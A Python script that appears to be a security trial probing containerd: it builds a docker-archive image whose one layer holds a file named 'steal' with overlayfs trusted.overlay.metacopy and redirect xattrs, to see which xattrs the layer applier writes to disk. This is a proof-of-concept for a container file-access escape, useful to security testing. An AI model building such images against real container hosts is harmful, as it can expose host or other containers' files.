#!/usr/bin/env python3
"""Trial: writes a docker-archive image (argv[1]) whose one layer has a file `steal` carrying
PAX xattrs trusted.overlay.metacopy, trusted.overlay.redirect (argv[2]) and user.probe, to see
which of them containerd's layer applier writes to disk (bench/trials/trusted-xattr-probe.mjs)."""
import hashlib
import io
import json
import sys
import tarfile


def add(tar, name, data, pax=None):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    if pax:
        info.pax_headers = pax
    tar.addfile(info, io.BytesIO(data))


layer = io.BytesIO()
with tarfile.open(fileobj=layer, mode="w", format=tarfile.PAX_FORMAT) as tar:
    add(tar, "steal", b"x" * 10, {
        "SCHILY.xattr.trusted.overlay.metacopy": "",
        "SCHILY.xattr.trusted.overlay.redirect": sys.argv[2],
        "SCHILY.xattr.user.probe": "kept",
    })
layer_bytes = layer.getvalue()
layer_digest = hashlib.sha256(layer_bytes).hexdigest()
config = json.dumps({
    "architecture": "amd64",
    "os": "linux",
    "config": {"Entrypoint": ["/steal"]},
    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + layer_digest]},
}).encode()
config_digest = hashlib.sha256(config).hexdigest()
with tarfile.open(sys.argv[1], "w") as tar:
    add(tar, layer_digest + ".tar", layer_bytes)
    add(tar, config_digest + ".json", config)
    add(tar, "manifest.json", json.dumps([{
        "Config": config_digest + ".json",
        "RepoTags": ["docker.io/probe/xattr:1"],
        "Layers": [layer_digest + ".tar"],
    }]).encode())
